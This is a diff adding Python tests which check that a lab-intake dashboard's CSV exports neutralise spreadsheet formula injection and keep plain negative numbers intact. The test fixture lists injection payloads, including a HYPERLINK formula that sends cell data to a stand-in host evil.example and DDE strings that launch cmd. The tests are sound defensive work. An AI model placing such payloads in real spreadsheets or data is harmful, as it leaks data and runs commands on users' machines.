@@ -20,6 +20,7 @@ from labintake.models.orders import Finding, Order, Verification
 from labintake.models.release import OutboxEntry
 from labintake.release.bulk import release_verified
 from labintake.web.app import create_app
+from labintake.web.dashboard_tables import spreadsheet_safe
 from tests.factories import make_token, make_user
 
 
@@ -134,6 +135,42 @@ def test_every_table_exports_as_csv_with_the_same_numbers(
     for name in ("status", "throughput", "aging", "turnaround", "delivery", "reconciliation"):
         assert client.get(f"/dashboard/export/{name}.csv").status_code == 200
     assert client.get("/dashboard/export/nothing.csv").status_code == 404
+
+
+HOSTILE_OFFICES = {
+    '=HYPERLINK("http://evil.example/?x="&A1,"Click")': "'=HYPERLINK",
+    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM",
+    "-2+3+cmd|' /C calc'!A0": "'-2+3",
+    "+1+1": "'+1+1",
+    "\tTabbed Clinic": "'\tTabbed",
+    "\r=1+1": "'\r=1+1",
+}
+
+
+def test_csv_exports_neutralise_formula_cells_and_keep_negative_numbers(
+    settings: Settings, engine: Engine
+) -> None:
+    with session_scope(engine) as session:
+        for office in HOSTILE_OFFICES:
+            hold(session, add_order(session, status="held", office=office), "DX_MISSING")
+    client = client_for(settings, engine)
+    response = client.get("/dashboard/export/holds_office.csv")
+    rows = list(csv.reader(io.StringIO(response.text)))
+    cells = [row[0] for row in rows[1:]]
+    assert len(cells) == len(HOSTILE_OFFICES)
+    for office, start in HOSTILE_OFFICES.items():
+        assert "'" + office in cells, office
+        assert ("'" + office).startswith(start)
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
+    assert all(row[1] == "1" for row in rows[1:])
+
+
+def test_a_spreadsheet_safe_cell_keeps_plain_numbers_as_numbers() -> None:
+    assert spreadsheet_safe("-12") == "-12"
+    assert spreadsheet_safe("+3.5") == "+3.5"
+    assert spreadsheet_safe("-2+3") == "'-2+3"
+    assert spreadsheet_safe("North Clinic") == "North Clinic"
+    assert spreadsheet_safe("") == ""
 
 
 def test_metrics_for_managers_and_scrapers_with_the_token_only(
